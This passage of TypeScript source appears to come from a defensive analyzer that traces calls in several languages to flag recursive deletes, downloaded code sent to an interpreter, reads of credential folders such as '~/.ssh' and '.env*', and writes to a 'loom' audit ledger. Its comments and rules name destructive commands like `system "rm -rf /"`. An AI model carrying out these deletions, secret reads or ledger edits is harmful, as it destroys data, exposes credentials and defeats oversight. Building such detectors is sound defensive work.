      const name = staticName(s, parts[0][0], parts[0][1]);
      if (!name) continue;
      if (x.v === 'method') {
        // method(:system).call(args) -> system(args)
        if (!paren || t[stop + 1]?.v !== '.' || !['call', '()'].includes(t[stop + 2]?.v ?? '') || t[stop + 3]?.v !== '(') continue;
        t.splice(i, stop + 3 - i, { k: 'id', v: name });
        redo();
        continue;
      }
      const rest = parts.length > 1 ? parts[1][0] : stop;
      // obj.send(:system, ...) on any object but a module the tables know: Kernel's system.
      let from = i;
      if (t[i - 1]?.v === '.') {
        let r = i - 1;
        while (r > 0 && t[r].v === '.' && (t[r - 1].k === 'id' || t[r - 1].v === ')')) {
          r = t[r - 1].v === ')' ? openOf(t, r - 1) - 1 : r - 1;
          if (r >= 0 && t[r]?.k === 'id') r--;
          else break;
        }
        const recvStart = Math.max(0, r + 1);
        const recv = t.slice(recvStart, i - 1).map((y) => y.v).join('');
        if (own(SINKS.ruby, name) && !own(SINKS.ruby, recv + '.' + name)) from = recvStart;
      }
      if (paren) t.splice(from, rest - from, { k: 'id', v: name }, { k: 'op', v: '(' });
      else t.splice(from, rest - from, { k: 'id', v: name });
      redo();
      continue;
    }
    // PHP: $f(args) where $f holds a static function name.
    if (s.lang === 'php' && x.v.startsWith('$') && t[i + 1]?.v === '(' && t[i - 1]?.v !== '->' && t[i - 1]?.v !== 'function') {
      const v = s.vars.get(x.v);
      if (!v) continue;
      const name = staticName(s, v[0], v[1]);
      if (!name) continue;
      t[i] = { k: 'id', v: name };
      continue;
    }
  }
}

function bindNodeImport(s: Scope, t: Tok[], from: number, to: number, mod: string): void {
  // {a, b: c} / {a as b} / * as X / X
  for (let j = from; j < to; j++) {
    if (t[j].k !== 'id' || t[j].v === 'from' || t[j].v === 'as' || t[j].v === 'const' || t[j].v === 'let' || t[j].v === 'var' || t[j].v === 'type') continue;
    const name = t[j].v;
    if ((t[j + 1]?.v === ':' || t[j + 1]?.v === 'as') && t[j + 2]?.k === 'id') {
      s.aliases.set(t[j + 2].v, mod + '.' + name);
      j += 2;
      continue;
    }
    if (t[j - 1]?.v === 'as' || (t[j - 1]?.v !== ',' && t[j - 1]?.v !== '{' && t[j + 1]?.v !== ',' && t[j + 1]?.v !== '}')) s.aliases.set(name, mod);
    else s.aliases.set(name, mod + '.' + name);
  }
}

function collectVars(s: Scope): void {
  const t = s.toks;
  for (let i = 1; i < t.length; i++) {
    if (t[i].k !== 'op' || t[i].v !== '=' || t[i + 1]?.v === '=' || t[i - 1]?.k !== 'id') continue;
    if (['=', '!', '<', '>'].includes(t[i - 1].v)) continue;
    let end = i + 1;
    while (end < t.length && t[end].v !== ';' && !(t[end].v === ',' && s.lang !== 'python')) {
      if (t[end].k === 'op' && (t[end].v === '(' || t[end].v === '[' || t[end].v === '{')) end = closeOf(t, end);
      else end++;
    }
    const name = t[i - 1].v.replace(/^[$@]/, '');
    s.vars.set(name, [i + 1, end]);
    s.vars.set(t[i - 1].v, [i + 1, end]);
    // out, err = capture(...) / out, _, st = ...: each name holds (a part of) what the call returns.
    for (let k = i - 2; k > 0 && k > i - 16 && t[k].v === ',' && t[k - 1].k === 'id'; k -= 2) if (!s.vars.has(t[k - 1].v)) s.vars.set(t[k - 1].v, [i + 1, end]);
  }
}

/**
 * Loop variables over a literal list hold the list (`for p in ['build', 'dist']:`, `for (const d of [...])`,
 * `[...].forEach(d => ...)`, `[...].each do |d|`, `for my $d (...)`): a call on the variable is judged for
 * each element, so cleaning named folders is not a path only known at run time.
 */
function collectLoopVars(s: Scope): void {
  const t = s.toks;
  for (let i = 0; i < t.length; i++) {
    const x = t[i];
    if (x.k !== 'id') continue;
    // Python: for NAME in [ ... ]   JS: for (const NAME of [ ... ])   Perl: for my $NAME ( ... )
    if ((x.v === 'for' || x.v === 'foreach') && t[i + 1]) {
      let k = i + 1;
      if (t[k].v === '(') k++;
      if (['const', 'let', 'var', 'my', 'our'].includes(t[k]?.v ?? '')) k++;
      const name = t[k];
      if (name?.k !== 'id') continue;
      const sep = t[k + 1]?.v;
      const open = sep === 'in' || sep === 'of' ? k + 2 : s.lang === 'perl' && sep === '(' ? k + 1 : -1;
      if (open < 0 || !t[open] || (t[open].v !== '[' && t[open].v !== '(')) continue;
      const close = closeOf(t, open);
      if (close > open) s.vars.set(name.v.replace(/^[$@]/, ''), [open, close]);
      continue;
    }
    // JS [..].forEach((NAME) => / NAME =>   Ruby [..].each do |NAME| / { |NAME| }
    if ((x.v === 'forEach' || x.v === 'each' || x.v === 'map') && t[i - 1]?.v === '.' && t[i - 2]?.v === ']') {
      let open = i - 2;
      for (let depth = 0; open >= 0; open--) {
        if (t[open].v === ']') depth++;
        else if (t[open].v === '[' && --depth === 0) break;
      }
      if (open < 0) continue;
      let k = i + 1;
      while (k < t.length && k < i + 5 && (t[k].v === '(' || t[k].v === 'do' || t[k].v === '{' || t[k].v === '|')) k++;
      if (t[k]?.k === 'id') s.vars.set(t[k].v, [open, i - 1]);
    }
  }
}

function shellOf(s: Scope, text: string, via: string): void {
  const { analyzer, cwd, depth } = s.ctx;
  if (text.trim() === '' || text === '\u0000') return;
  if (text.startsWith('\u0000')) {
    analyzer.hit('dynamic-command', 'ask', s.ctx.segment, `${via} runs a command only known at run time`);
    return;
  }
  analyzer.analyzeSource(text, depth + 1, `${s.ctx.via} > ${via}`, cwd, new Map());
}

function argvOf(s: Scope, list: Val[], via: string): void {
  const argv = list.map((v) => v.text ?? '\u0000');
  if (argv.length === 0) return;
  if (argv[0].includes('\u0000')) {
    s.ctx.analyzer.hit('dynamic-command', 'ask', s.ctx.segment, `${via} runs a program only known at run time`);
    return;
  }
  const words = argv.map((text) => ({ text, dynamic: false, quoted: true, glob: false }));
  const c: SimpleCommand = { words, assignments: [], redirects: [], pipeline: 0, stage: 0, background: false };
  s.ctx.analyzer.analyzeCommand(c, s.ctx.depth + 1, `${s.ctx.via} > ${via}`, s.ctx.cwd, [c], new Map());
}

function dynamic(s: Scope, v: Val, via: string): void {
  if (v.net) s.ctx.analyzer.hit('pipe-download-to-interpreter', 'deny', s.ctx.segment, `${via} runs code downloaded from the network`);
  else s.ctx.analyzer.hit('dynamic-command', 'ask', s.ctx.segment, `${via} runs ${v.decoded ? 'decoded or computed' : 'computed'} code, only known at run time`);
}

function pathArg(v: Val | undefined): string | undefined {
  if (!v || v.text === undefined) return undefined;
  return v.text;
}

const LEDGER_TEXT = /(?:^|\/)\.loom(?:\/|$)|ledger\.db/;

/** The folder a call runs its command in (`cwd=`, `{cwd: ...}`, ruby `chdir:`), when given. */
function callCwd(s: Scope, argRanges: [number, number][]): string | undefined {
  if (!argRanges.length) return undefined;
  const t = s.toks;
  const from = argRanges[0][0];
  const to = argRanges[argRanges.length - 1][1];
  for (let j = from; j < to - 2; j++) {
    if (!(t[j].k === 'id' || t[j].k === 'str') || !/^(?:cwd|chdir|:chdir|dir)$/.test(t[j].v)) continue;
    if (t[j + 1].v !== '=' && t[j + 1].v !== ':' && t[j + 1].v !== '=>') continue;
    let end = j + 2;
    while (end < to && t[end].v !== ',' && t[end].v !== '}' && t[end].v !== ')') {
      if (t[end].k === 'op' && (t[end].v === '(' || t[end].v === '[' || t[end].v === '{')) end = closeOf(t, end);
      else end++;
    }
    const v = evalExpr(s, j + 2, end);
    return v.text !== undefined && !v.text.includes('\u0000') ? posix.resolve(s.ctx.cwd, expandTilde(v.text, s.home)) : '\u0000';
  }
  return undefined;
}

function judgeCall(s: Scope, name: string, sink: Sink, args: Val[], argRanges: [number, number][]): void {
  if (sink === 'shell' || sink === 'argv') {
    const dir = callCwd(s, argRanges);
    if (dir !== undefined) {
      const saved = s.ctx;
      const unknown = s.cwdUnknown;
      if (dir === '\u0000') s.cwdUnknown = true;
      else s.ctx = { ...s.ctx, cwd: dir };
      try {
        judgeCallIn(s, name, sink, args, argRanges);
      } finally {
        s.ctx = saved;
        s.cwdUnknown = unknown;
      }
      return;
    }
  }
  judgeCallIn(s, name, sink, args, argRanges);
}

/** Sinks whose arguments are paths: a list there is a loop variable over a literal list, one path per element. */
const PATH_SINKS = new Set<Sink>(['move', 'read', 'write', 'open', 'copy', 'archive']);
const MAX_ELEMENTS = 64;

function judgeCallIn(s: Scope, name: string, sink: Sink, args: Val[], argRanges: [number, number][]): void {
  if (PATH_SINKS.has(sink) && !(s.lang === 'perl' && sink === 'open' && /\|/.test(args[1]?.text ?? ''))) {
    const k = args.findIndex((x) => x.text === undefined && x.list !== undefined && x.list.length > 0 && x.list.length <= MAX_ELEMENTS && x.list.every((e) => e.text !== undefined));
    if (k >= 0) {
      for (const e of args[k].list!) judgeCallIn(s, name, sink, args.map((x, j) => (j === k ? e : x)), argRanges);
      return;
    }
  }
  const a = s.ctx.analyzer;
  const { cwd, segment } = s.ctx;
  const via = `${s.lang} ${canonical(s, name)}`;
  switch (sink) {
    case 'shell': {
      const v = args[0];
      if (!v) return;
      if (v.list) argvOf(s, v.list, via);
      else if (v.text !== undefined && v.text !== '\u0000') shellOf(s, v.text, via);
      else dynamic(s, v, via);
      return;
    }
    case 'argv': {
      // subprocess.run("cmd", shell=True) / run(["rm", ...]) / execFileSync("rm", ["-rf", p]) / system("rm", "-rf", p) / os.execvp("rm", ["rm", ...])
      const c = canonical(s, name);
      let list: Val[] | undefined;
      const firstList = args.findIndex((x) => x.list);
      const optArgv = args.find((x) => x.fields?.get('cmd')?.list)?.fields?.get('cmd')?.list;
      const optArgs = args[1]?.fields?.get('args')?.list;
      // R's system2(command, args): the shell runs `command args...` (its arguments joined with blanks, unquoted).
      if (s.lang === 'r' && c === 'system2' && args[0]?.text !== undefined) {
        const rest = args.slice(1, 2).flatMap((x) => x.list ?? [x]);
        if (rest.every((x) => x.text !== undefined && !x.text.includes('\u0000'))) shellOf(s, [args[0].text, ...rest.map((x) => x.text!)].join(' '), via);
        else dynamic(s, rest.find((x) => x.text === undefined || x.text.includes('\u0000')) ?? args[0], via);
        return;
      }
      if (s.lang === 'perl' && /(?:^|::)open[23]$/.test(c)) list = args.slice(c.endsWith('3') ? 3 : 2);
      // Perl flattens every list in a LIST (system qw(rm -rf), glob "~" / system @cmd, $dir): one argv.
      else if (s.lang === 'perl' && args.some((x) => x.list) && (args.length > 1 || args[0].list!.length > 1)) list = args.flatMap((x) => x.list ?? [x]);
      else if (optArgv) list = optArgv;
      else if (optArgs && args[0]?.text !== undefined) list = [args[0], ...optArgs];
      else if (/^os\.(?:exec|spawn|posix_spawn)/.test(c)) {
        const from = c.startsWith('os.spawn') ? 1 : 0;
        list = firstList > 0 ? args[firstList].list : args.slice(from + 1);
      } else if (args[0]?.list) list = args[0].list;
      else if (firstList > 0) list = [args[0], ...args[firstList].list!];
      else if (args.length > 1 && args.slice(1).every((x) => x.text !== undefined && !x.unknown) && s.lang !== 'python') list = args;
      const v = args[0];
      // PHP's proc_open takes a shell string or an argv array.
      if (s.lang === 'php' && c === 'proc_open' && v && !v.list && v.text !== undefined && v.text !== '\u0000') {
        shellOf(s, v.text, via);
        return;
      }
      if (list) {
        if (args.some((x) => x.shellTrue) && list.length) shellOf(s, list.map((x) => x.text ?? '\u0000').join(' '), via);
        else argvOf(s, list, via);
      } else if (v && v.text !== undefined && v.text !== '\u0000') shellOf(s, v.text, via);
      else if (v) dynamic(s, v, via);
      return;
    }
    case 'exec': {
      const v = args[0];
      if (!v) return;
      if (canonical(s, name) === 'Function' || canonical(s, name) === 'new Function') {
        const body = args[args.length - 1];
        if (body?.text !== undefined && !body.text.includes('\u0000')) analyzeInterpreterCode(s.lang, body.text, { ...s.ctx, depth: s.ctx.depth + 1 });
        else if (body) dynamic(s, body, via);
        return;
      }
      if (['require', 'include', 'include_once', 'require_once', 'load', 'do', 'source', 'dofile', 'loadfile', 'import'].includes(canonical(s, name))) {
        if (v.net || (v.text && /^https?:/.test(v.text))) dynamic(s, { net: true }, via);
        return;
      }
      if (v.text !== undefined && !v.text.includes('\u0000')) {
        if (s.evalDepth < MAX_DEPTH) analyzeInterpreterCode(s.lang, v.text, { ...s.ctx, depth: s.ctx.depth + 1 });
      } else dynamic(s, v, via);
      return;
    }
    case 'chdir': {
      const p = pathArg(args[0]);
      if (p === undefined || p.includes('\u0000')) s.cwdUnknown = true;
      else {
        s.ctx = { ...s.ctx, cwd: posix.resolve(cwd, expandTilde(p, s.home)) };
        s.cwdUnknown = false;
      }
      return;
    }
    case 'delete':
    case 'delete-r': {
      const recursive = sink === 'delete-r' || args.some((x) => x.recursive) || s.toks.slice(argRanges[0]?.[0] ?? 0, argRanges[argRanges.length - 1]?.[1] ?? 0).some((t, i, arr) => t.v === 'recursive' && /^(?:true|TRUE|T)$/.test(arr[i + 2]?.v ?? ''));
      const targets = s.lang === 'perl' && args[0]?.list ? args[0].list : s.lang === 'perl' || s.lang === 'ruby' ? args : args.slice(0, 1);
      for (const t of targets) {
        // A loop variable over a literal list: each element.
        if (t.text === undefined && t.list?.length && t.list.length <= 64 && t.list.every((e) => e.text !== undefined)) {
          for (const e of t.list) deletesPath(a, e.text!, cwd, segment, { recursive });
          continue;
        }
        const p = pathArg(t);
        if (p !== undefined && !p.startsWith('\u0000') && !p.startsWith('/') && s.cwdUnknown) {
          if (recursive) a.hit('rm-unknown-target', 'ask', segment, `${via} deletes ${p} in a folder only known at run time`);
          continue;
        }
        if (p === undefined || p.startsWith('\u0000')) {
          if (s.walkRoots.length) deleteWalked(s);
          else if (recursive) a.hit('rm-unknown-target', 'ask', segment, `${via} deletes a path only known at run time`);
          continue;
        }
        // dir + '/' + name in a walk: the walked tree.
        if (p.includes('\u0000') && s.walkRoots.length) deleteWalked(s);
        if (t.list) for (const x of t.list) if (x.text) deletesPath(a, x.text, cwd, segment, { recursive });
        deletesPath(a, p, cwd, segment, { recursive });
      }
      return;
    }
    case 'move': {
      const p = pathArg(args[0]);
      const d = pathArg(args[1]);
      if (p) movesPath(a, p, d, cwd, segment);
      if (d && !d.startsWith('\u0000')) writesPath(a, d, cwd, segment);
      return;
    }
    case 'read': {
      const p = pathArg(args[0]);
      if (p && !p.startsWith('\u0000')) readUnknownTail(s, p);
      else if (s.walkRoots.length) readWalked(s);
      return;
    }
    case 'write': {
      const c = canonical(s, name);
      const p = pathArg(c === 'os.chmod' || c === 'chmod' || c === 'File.chmod' || c === 'FileUtils.chmod' ? (s.lang === 'python' || s.lang === 'node' ? args[0] : args[1]) : args[0]);
      if (p && !p.startsWith('\u0000')) {
        writesPath(a, p, cwd, segment);
        // writeFileSync(f, ''), file_put_contents(f, ""), File.write(f, ''): the file is left empty.
        if (args.length >= 2 && args[1]?.text === '' && args[1].list === undefined) destroysFile(a, p, cwd, segment, { verb: `${name} writes nothing over`, home: true });
      } else if (s.walkRoots.length) writeWalked(s);
      return;
    }
    case 'open': {
      // open(path, mode) / open(FH, '<', path) / open(FH, ">path") / fopen(path, 'w') / io.open(p, 'w')
      let path: string | undefined;
      let mode = '';
      if (s.lang === 'perl') {
        if (args.length >= 3) {
          mode = args[1]?.text ?? '';
          path = args[2]?.text;
          if (/\|/.test(mode)) {
            // open(F, '-|', LIST): one element is a shell command line, more are an argv.
            const rest = args.slice(2).flatMap((x) => x.list ?? [x]);
            if (rest.length === 1 && rest[0].text !== undefined) shellOf(s, rest[0].text, via);
            else argvOf(s, rest, via);
            return;
          }
        } else {
          const spec = (args[1]?.text ?? '').trim();
          if (spec.endsWith('|') || spec.startsWith('|')) {
            shellOf(s, spec.replace(/^\|\s*|\s*\|$/g, ''), via);
            return;
          }
          const m = /^(\+?[<>]{0,2})\s*(.*)$/.exec(spec);
          mode = m?.[1] ?? '';
          path = m?.[2];
        }
      } else {
        path = args[0]?.text;
        mode = args[1]?.text ?? '';
        if (s.lang === 'python' && args.length === 1) mode = 'r';
      }
      // open(f, "w") for each f of a walk: the files of the walked folder.
      if ((path === undefined || path.startsWith('\u0000')) && s.walkRoots.length) {
        if (/[wax+>]/.test(mode)) writeWalked(s);
        else readWalked(s);
      }
      if (path === undefined || path.startsWith('\u0000')) return;
      if (/[wax+>]/.test(mode) && !/^r$/.test(mode)) writesPath(a, path, cwd, segment);
      else readUnknownTail(s, path);
      return;
    }
    case 'copy': {
      const src = pathArg(args[0]);
      const dst = pathArg(args[1]);
      if (src && !src.startsWith('\u0000')) carriesFolder(a, src, cwd, segment);
      if (dst && !dst.startsWith('\u0000')) writesPath(a, dst, cwd, segment);
      return;
    }
    case 'archive': {
      const c = canonical(s, name);
      const root = c === 'shutil.make_archive' ? pathArg(args[2]) : pathArg(args[0]);
      if (root && !root.startsWith('\u0000') && (c === 'shutil.make_archive' || /\b(?:tarfile|zipfile|ZipFile|TarFile)\b/.test(s.toks.map((x) => x.v).join(' ')))) carriesFolder(a, root, cwd, segment);
      return;
    }
    case 'db': {
      const p = args.map((x) => x.text ?? '').find((x) => LEDGER_TEXT.test(x));
      if (!p) return;
      if (/[?&]mode=ro\b/.test(p) || args.some((x, i) => i > 0 && x.unknown && false)) return;
      const sql = s.toks.filter((x) => x.k === 'str' && /^\s*(?:select|insert|update|delete|drop|create|alter|replace|pragma|with|attach|vacuum|begin)\b/i.test(x.v));
      const writes = s.toks.some((x) => x.k === 'id' && /^(?:executescript|exec|run)$/.test(x.v)) && sql.length === 0;
      if (writes || sql.length === 0 || sql.some((x) => !sqlOnlyReads(x.v))) a.hit('modify-loom', 'deny', segment, `${via} opens loom's ledger (${p}) for more than a read-only query`);
      return;
    }
    default:
      return;
  }
}

const FILE_FIND = /^(?:File::Find::)?(?:find|finddepth)$/;
const isFileFindCall = (s: Scope, cname: string): boolean => s.lang === 'perl' && FILE_FIND.test(cname);
/** The walked names are tested before anything is done with them (a suffix, a pattern): the walk picks some files, not all. */
const WALK_FILTER = /\.endswith\(|\.suffix\b|fnmatch|\.match\(|\.test\(|\bextname\b|end_with\?|=~|\.search\(|\.startswith\(|\.endsWith\(|\.includes\(|\bname\s*==|\.ext\b|\/\\\./;

/**
 * Records a folder the code walks. A glob roots at its folder part (`/home/dev/**` at /home/dev), a relative
 * one (`**` then `*.pyc`) at the working folder, never at `/`. Inside the project a walk that picks files (a
 * pattern with a suffix, a name test in the code) deletes those files, not the folder: the pattern is recorded.
 */
function addWalkRoot(s: Scope, root: string, pattern?: string): void {
  if (s.walkRoots.length >= 16) return;
  const full = pattern ? (root === '' || root === '.' ? pattern : root.replace(/\/+$/, '') + '/' + pattern) : root;
  if (full.startsWith('\u0000')) {
    s.walkRoots.push({ path: '\u0000', filtered: false, pattern: full });
    return;
  }
  let base = full.replace(/\/?[^/]*[*?[].*$/, '');
  if (base === '') base = full.startsWith('/') ? '/' : '.';
  const last = full.split('/').pop() ?? '';
  const filtered = /[*?[]/.test(full) ? !/^(?:\*|\*\*|\.\*|\*\.\*)?$/.test(last) : WALK_FILTER.test(s.toks.map((x) => x.v).join(''));
  s.walkRoots.push({ path: base, filtered, pattern: full });
}

/** A delete of what a walk found: a recursive delete of each walked folder (of the files it picks, when it picks some). */
/** A write to each file a walk found: judged as writes to the walked folder's files (loom's, the hook settings). */
function writeWalked(s: Scope): void {
  for (const root of s.walkRoots) for (const f of WALKED_SAMPLES) writesPath(s.ctx.analyzer, posix.join(root.path, f), s.ctx.cwd, s.ctx.segment);
}
const WALKED_SAMPLES = ['x', 'settings.json', 'settings.local.json', 'hooks.json', 'policy.json'];

/** A read of a path known up to a run-time name (`os.path.join('~/.ssh', f)`): a file of that folder, a credential folder's among them. */
function readUnknownTail(s: Scope, p: string): void {
  const hole = p.indexOf('\u0000');
  const dir = hole > 0 ? p.slice(0, p.lastIndexOf('/', hole) + 1) : '';
  if (dir.length > 1) carriesFolder(s.ctx.analyzer, dir.replace(/\/+$/, ''), s.ctx.cwd, s.ctx.segment);
  else readsPath(s.ctx.analyzer, p, s.ctx.cwd, s.ctx.segment);
}

/** A read of each file a walk found: the walk's pattern read (`.env*`, `~/.ssh/*`), a credential folder carried whole. */
function readWalked(s: Scope): void {
  for (const root of s.walkRoots) {
    if (root.path.startsWith('\u0000')) continue;
    if (root.pattern !== root.path) readsPath(s.ctx.analyzer, root.pattern, s.ctx.cwd, s.ctx.segment);
    carriesFolder(s.ctx.analyzer, root.path, s.ctx.cwd, s.ctx.segment);
  }
}

function deleteWalked(s: Scope): void {
  for (const root of s.walkRoots) deletesPath(s.ctx.analyzer, root.path, s.ctx.cwd, s.ctx.segment, { recursive: true, filtered: root.filtered });
}

/** Folders the code traverses, found before the calls are judged (a comprehension names its source after its action). */
function collectWalkRoots(s: Scope): void {
  const t = s.toks;
  for (let i = 0; i < t.length; i++) {
    if (t[i].k !== 'id') continue;
    // Ruby Dir['pattern']: a glob.
    if (s.lang === 'ruby' && t[i].v === 'Dir' && t[i + 1]?.v === '[' && t[i - 1]?.v !== '.') {
      const v = evalExpr(s, i + 2, closeOf(t, i + 1) - 1);
      if (v.text !== undefined && !v.text.startsWith('\u0000')) addWalkRoot(s, v.text);
      continue;
    }
    const [name, end] = dottedName(t, i);
    if (t[end]?.v !== '(') continue;
    const sink = sinkOf(s, name) ?? (t[i - 1]?.v === '.' ? own(SINKS[s.lang], '.' + name) : undefined);
    if (sink !== 'walk') continue;
    const close = closeOf(t, end);
    const args = splitArgs(t, end + 1, close - 1).map(([p, q]) => evalExpr(s, p, q));
    let root = args[0]?.text;
    let pattern: string | undefined;
    if (t[i - 1]?.v === '.' && /^(?:rglob|glob|iterdir|walk)$/.test(name)) {
      // Path(x).rglob('*') / Path.home().rglob(...): the receiver is the root, the argument the pattern.
      root = evalExpr(s, receiverStart(t, i), i - 1).text;
      pattern = name === 'rglob' ? '**/' + (args[0]?.text ?? '*') : args[0]?.text;
    }
    // Perl's File::Find: find(\&wanted, @dirs) / finddepth({wanted => ...}, $dir): the roots come after the callback.
    if (isFileFindCall(s, canonical(s, name))) {
      // A root only known at run time: what the callback deletes is unknown (asks, like rm -rf "$dir").
      for (const d of args.slice(1)) addWalkRoot(s, d.text === undefined || d.text.startsWith('\u0000') ? '\u0000' : d.text);
      i = end - 1;
      continue;
    }
    if (root !== undefined && !root.startsWith('\u0000')) addWalkRoot(s, root, pattern);
    else if (/^(?:os\.walk|os\.fwalk|Find\.find)$/.test(canonical(s, name))) addWalkRoot(s, '\u0000');
    i = end - 1;
  }
}

/** Code that opens loom's ledger with a database driver and runs anything but read-only SQL (whatever the call shape). */
function judgeLedgerDb(s: Scope): void {
  const ledger = s.toks.find((x) => x.k === 'str' && LEDGER_TEXT.test(x.v) && !/[?&]mode=ro\b/.test(x.v));
  if (!ledger) return;
  const opens = s.toks.some((x) => x.k === 'id' && /(?:^|[.:])(?:connect|Database|DatabaseSync|SQLite3|PDO|open_database|sqlite3?)$|^(?:sqlite|better-sqlite3)$/i.test(x.v)) || s.toks.some((x) => x.k === 'str' && /^(?:node:)?sqlite3?$|^better-sqlite3$/.test(x.v));
  if (!opens) return;
  const sql = s.toks.filter((x) => x.k === 'str' && /^\s*(?:select|insert|update|delete|drop|create|alter|replace|pragma|with|attach|vacuum|begin)\b/i.test(x.v));
  if (sql.length === 0 || sql.some((x) => !sqlOnlyReads(x.v))) s.ctx.analyzer.hit('modify-loom', 'deny', s.ctx.segment, `${s.lang} code opens loom's ledger (${ledger.v}) for more than a read-only query`);
}

function passedDelete(s: Scope, sink: Sink): void {
  if (s.walkRoots.length) deleteWalked(s);
  else if (sink === 'delete-r') s.ctx.analyzer.hit('rm-unknown-target', 'ask', s.ctx.segment, `${s.lang} passes a recursive delete to other code`);
}

/** PHP's callables by name: array_map('unlink', ...), call_user_func('system', ...). */
const CALLABLE_TAKERS = new Set(['array_map', 'array_walk', 'call_user_func', 'call_user_func_array', 'usort', 'array_filter', 'register_shutdown_function']);

function walk(s: Scope): void {
  const t = s.toks;
  for (let i = 0; i < t.length; i++) {
    const x = t[i];
    if (s.lang === 'php' && x.k === 'str' && t[i - 1]?.v === '(' && t[i - 2]?.k === 'id' && CALLABLE_TAKERS.has(t[i - 2].v)) {
      const sink = own(SINKS.php, x.v);
      if (sink === 'delete' || sink === 'delete-r') passedDelete(s, sink);
      else if (sink === 'shell' || sink === 'exec') {
        const close = closeOf(t, i - 1);
        let rest = splitArgs(t, i + 2, close - 1).map(([p, q]) => evalExpr(s, p, q));
        // call_user_func_array('system', ['cmd']): the array is the argument list; array_map / array_walk call it per item.
        if (t[i - 2].v === 'call_user_func_array' && rest[0]?.list) rest = rest[0].list;
        if ((t[i - 2].v === 'array_map' || t[i - 2].v === 'array_walk') && rest[0]?.list) for (const item of rest[0].list.slice(0, 16)) judgeCall(s, x.v, sink, [item], []);
        else if (rest.length) judgeCall(s, x.v, sink, rest, []);
      }
      continue;
    }
    // Backticks, qx, %x: shell commands.
    if (x.k === 'str' && x.shell) {
      shellOf(s, resolveInterp(s, x, 0), `${s.lang} backticks`);
      continue;
    }
    if (x.k !== 'id') continue;
    // Method on a call or a literal: Path('x').unlink(), ".../x".unlink; handled when the dotted name ends in a sink.
    let [name, end] = dottedName(t, i);
    if (name === 'new' && t[end]?.k === 'id') [name, end] = dottedName(t, end);
    const prev = t[i - 1];
    const isMethodOnResult = prev && prev.k === 'op' && (prev.v === '.' || prev.v === '->');
    if (isMethodOnResult) {
      // receiver is whatever came before the dot: Path(...).unlink(), $ua->get(...)
      const sink = own(SINKS[s.lang], '.' + name.split('.')[0]) ?? own(SINKS[s.lang], '->' + name.split('.')[0]);
      if (!sink || !t[end] || t[end].v !== '(') continue;
      if (!['delete', 'delete-r', 'read', 'write', 'open', 'walk', 'move', 'copy'].includes(sink)) continue;
      // find the receiver expression start
      const recv = evalExpr(s, receiverStart(t, i), i - 1);
      if (sink === 'walk') {
        if (recv.text !== undefined && !recv.text.startsWith('\u0000')) {
          const pat = evalExpr(s, end + 1, closeOf(t, end) - 1).text;
          addWalkRoot(s, recv.text, name === 'rglob' ? '**/' + (pat ?? '*') : name === 'glob' ? pat : undefined);
        }
        continue;
      }
      if (recv.text === undefined || recv.text.startsWith('\u0000')) {
        if ((sink === 'delete' || sink === 'delete-r') && s.walkRoots.length) deleteWalked(s);
        else if (sink === 'write' && s.walkRoots.length) writeWalked(s);
        continue;
      }
      const close = closeOf(t, end);
      const args = splitArgs(t, end + 1, close - 1).map(([p, q]) => evalExpr(s, p, q));
      judgeCall(s, name, sink, sink === 'open' && s.lang === 'python' ? [recv, args[0] ?? { text: 'r' }] : [recv, ...args], []);
      continue;
    }
    const cname = canonical(s, name);
    // print(...) and friends: their string arguments are data (a shell string printed is not run); calls inside still run.
    if (PRINT_CALLS.includes(cname) || PRINT_CALLS.includes(name)) continue;
    const sink = sinkOf(s, name);
    if (!sink || sink === 'net' || sink === 'decode' || sink === 'path' || sink === 'join' || sink === 'home' || sink === 'walk') {
      i = end - 1;
      continue;
    }
    // A delete passed as a value (map(os.remove, files), files.forEach(fs.unlinkSync)): it deletes what it is given.
    if ((sink === 'delete' || sink === 'delete-r') && t[end]?.v !== '(' && !(t[end]?.k === 'str' || t[end]?.k === 'id') && ['python', 'node', 'ruby', 'julia'].includes(s.lang)) {
      passedDelete(s, sink);
      i = end - 1;
      continue;
    }
    let argRanges: [number, number][] = [];
    if (t[end]?.v === '(') {
      const close = closeOf(t, end);
      argRanges = splitArgs(t, end + 1, close - 1);
    } else if ((name === '$' || name.endsWith('.$')) && t[end]?.k === 'str') {
      // Bun/zx tagged template: $`rm -rf ${dir}`
      argRanges = [[end, end + 1]];
    } else if (t[end] && (t[end].k === 'str' || t[end].k === 'id' || (t[end].k === 'op' && (t[end].v === '[' || t[end].v === '(' || (t[end].v === '{' && s.lang === 'perl' && sink === 'argv'))) || t[end].k === 'num') && ['perl', 'ruby', 'lua', 'php', 'r', 'tcl'].includes(s.lang)) {
      // Paren-less call: system "rm -rf /"; unlink $f; FileUtils.rm_rf "/"; os.execute "..."
      if (t[end].k === 'id' && ['if', 'unless', 'or', 'and', 'do', 'then', 'for', 'foreach'].includes(t[end].v)) {
        // Perl's `unlink if -f`: the bare form deletes $_.
        if (s.lang === 'perl' && (sink === 'delete' || sink === 'delete-r')) judgeCall(s, name, sink, [UNKNOWN], []);
        continue;
      }
      let stop = end;
      while (stop < t.length && t[stop].v !== ';' && !(t[stop].k === 'op' && t[stop].v === '}') && !(t[stop].k === 'id' && ['if', 'unless', 'or', 'and', 'then', 'do'].includes(t[stop].v))) {
        if (t[stop].k === 'op' && (t[stop].v === '(' || t[stop].v === '[' || t[stop].v === '{')) stop = closeOf(t, stop);
        else stop++;
      }
      argRanges = splitArgs(t, end, stop);
    } else if (sink === 'exec' && s.lang === 'python' && t[end]?.k === 'str') argRanges = [[end, end + 1]];
    else if (s.lang === 'perl' && (sink === 'delete' || sink === 'delete-r') && (!t[end] || [';', '}', ')', ','].includes(t[end].v) || (t[end].k === 'id' && ['if', 'unless', 'or', 'and', 'for', 'foreach'].includes(t[end].v)))) {
      // Perl's unlink / rmdir without arguments delete $_ (the file a loop or File::Find hands over).
      judgeCall(s, name, sink, [UNKNOWN], []);
      i = end - 1;
      continue;
    }
    else {
      i = end - 1;
      continue;
    }
    // Python's args= keyword is the first argument; a splat of a list (*['rm', ...], *%w[...]) is its items.
    if (s.lang === 'python') {
      const kw = argRanges.findIndex(([p, q]) => q > p + 2 && t[p].v === 'args' && t[p + 1].v === '=');
      if (kw > 0 || (kw === 0 && argRanges.length >= 1)) argRanges = [[argRanges[kw][0] + 2, argRanges[kw][1]], ...argRanges.filter((_r, k) => k !== kw)];
    }
    // Perl's system { 'prog' } LIST / exec { ... } LIST: the block names the program, the list is the argv.
    if (s.lang === 'perl' && argRanges[0] && t[argRanges[0][0]].v === '{' && closeOf(t, argRanges[0][0]) < argRanges[0][1]) argRanges = [[closeOf(t, argRanges[0][0]), argRanges[0][1]], ...argRanges.slice(1)];
